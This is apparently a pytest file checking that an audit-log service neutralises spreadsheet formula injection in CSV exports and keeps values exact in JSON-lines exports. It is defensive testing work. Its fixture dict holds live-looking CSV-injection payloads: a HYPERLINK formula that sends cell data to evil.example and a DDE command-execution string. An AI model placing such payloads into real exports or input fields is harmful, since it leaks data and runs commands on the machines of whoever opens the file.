"""The CSV export cannot carry a spreadsheet formula: a cell a tenant controls that starts with
=, +, -, @, tab or CR is written with a leading quote; the JSON lines export keeps every value exact."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import orjson
import pytest

from app.audit.service import _cell
from tests.fixtures.stack import Stack, running_stack

HOSTILE = {
    "X-Purpose": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "X-Case-Id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "User-Agent": "+thing",
}


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    with running_stack(tmp_path_factory.mktemp("export")) as s:
        yield s


def test_formula_cells_are_neutralised_in_csv_and_exact_in_jsonl(served: Stack) -> None:
    key = served.new_tenant("export")[1]
    call = served.post("/api/info", key, headers=HOSTILE)
    selection = {"request_id": call.headers["X-Request-ID"]}

    as_csv = served.admin("GET", "/admin/audit/export", params={**selection, "format": "csv"})
    assert as_csv.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert row["purpose"] == "'" + HOSTILE["X-Purpose"]
    assert row["case_id"] == "'" + HOSTILE["X-Case-Id"]
    assert row["user_agent"] == "'" + HOSTILE["User-Agent"]
    risky = [name for name, value in row.items() if value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert risky == []

    as_jsonl = served.admin("GET", "/admin/audit/export", params={**selection, "format": "jsonl"})
    [event] = [orjson.loads(line) for line in as_jsonl.content.splitlines()]
    assert (event["purpose"], event["case_id"], event["user_agent"]) == tuple(HOSTILE.values())


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_start_is_prefixed(value: str) -> None:
    assert _cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "1-2", "", None, 5, -3])
def test_other_cells_pass_unchanged(value: object) -> None:
    assert _cell(value) == value
